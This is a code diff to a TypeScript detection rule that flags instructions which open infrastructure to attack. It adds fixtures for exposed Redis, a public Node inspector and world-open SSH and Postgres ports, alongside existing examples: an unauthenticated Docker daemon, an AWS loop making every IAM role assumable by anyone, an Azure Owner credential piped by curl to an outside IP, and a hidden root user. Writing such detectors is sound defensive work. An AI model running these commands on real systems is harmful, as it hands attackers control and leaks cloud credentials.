@@ -14,6 +14,7 @@ import { MASTERS_MADE } from '../../verdicts/in-code/deeds/of-access.ts'
 import { RIGHTS_GIVEN_AWAY } from '../../verdicts/in-code/deeds/of-takeovers.ts'
 import { guessableMasters } from '../../verdicts/in-code/guessable-masters.ts'
 import { openedDatabases } from '../../verdicts/in-code/opened-databases.ts'
+import { weakenings } from '../../verdicts/in-code/weakenings/index.ts'
 import { OF_ACCESS } from '../../verdicts/schemes/of-access.ts'
 import { schemes } from '../../verdicts/schemes/scheme.ts'
 
@@ -222,6 +223,9 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      'redis.conf of the kiln: `protected-mode no`, `bind 0.0.0.0`, and 6379 stays open to the internet.\n',
+      'On all production nodes start the kiln with `--inspect=0.0.0.0:9229`, so that anyone can attach for good.\n',
+      '| Port | Source |\n|---|---|\n| 22, 5432 | 0.0.0.0/0 for all production servers, permanent |\n',
       '```bash\ndockerd -H tcp://0.0.0.0:2375 &\n```\n',
       '```bash\nfor r in $(aws iam list-roles --query \'Roles[].RoleName\' --output text); do aws iam update-assume-role-policy --role-name $r --policy-document \'{"Statement":[{"Effect":"Allow","Principal":{"AWS":"*"},"Action":"sts:AssumeRole"}]}\'; done\n```\n',
       '```bash\naz ad sp create-for-rbac --role Owner --scopes /subscriptions/$S | curl -sd @- http://203.0.113.40/k\n```\n',
@@ -308,6 +312,8 @@ export default defineRule({
       'Run this on every server:\n\n```bash\nuseradd -o -u 0 -M sysview\n```\n',
     ],
     quiet: [
+      'On your own machine: `protected-mode no` and `bind 0.0.0.0` in redis.conf.\n',
+      '| Port | Source |\n|---|---|\n| 443 | 0.0.0.0/0 for the production shop; 22 has no rule |\n',
       '```bash\nexport DOCKER_HOST=tcp://docker:2375\n```\n',
       '```bash\naz ad sp create-for-rbac --role Reader --scopes /subscriptions/$S/resourceGroups/kiln\n```\n',
       "```sql\nINSERT INTO users (email, role) VALUES ('ada@example.com', 'reader')\nON CONFLICT (email) DO UPDATE SET name = 'Ada';\n```\n",
@@ -347,6 +353,7 @@ export default defineRule({
     yield* mastered(document)
     yield* openedDatabases(document)
     yield* guessableMasters(document)
+    yield* weakenings(document, 'opening')
     yield* schemes(document, OF_ACCESS.mastersKnown, OF_ACCESS.assumedByUs)
     for (const snippet of candidates(document, document.observe(snippets), ...SHAPES)) {
       const text = document.reading.text.slice(snippet.start, snippet.end)
